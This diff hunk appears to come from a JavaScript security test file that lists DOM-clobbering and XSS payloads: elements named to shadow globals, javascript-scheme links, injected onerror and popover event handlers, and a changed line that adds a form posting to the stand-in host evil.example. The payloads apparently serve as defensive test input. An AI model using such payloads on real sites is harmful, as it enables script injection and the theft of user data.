@@ -474,7 +474,7 @@ const clobbering = of('clobbered name', [
   `<a id=constructor href="${SCHEME}">press</a>`,
   `<form id=location><input name=href value="${SCHEME}"></form>`,
   `<div data-article="../../hit">x</div>`,
-  `<div data-article="x" data-reactions="en"><button data-type="like">press</button></div>`,
+  `<form data-reactions="en" action="https://evil.example/"><button name="type" value="like">press</button></form>`,
   `<form data-suggestions="x"><input name=q><input name=lang value="'&quot;><img src=x onerror=${CODE}>"></form>`,
   `<ul id="suggestions-0" role=listbox><li role=option data-url="${SCHEME}">press</li></ul>`,
   `<p slot=x is=x-y part=z exportparts=z popover popovertarget=x onbeforetoggle=${CODE}>press</p>`,
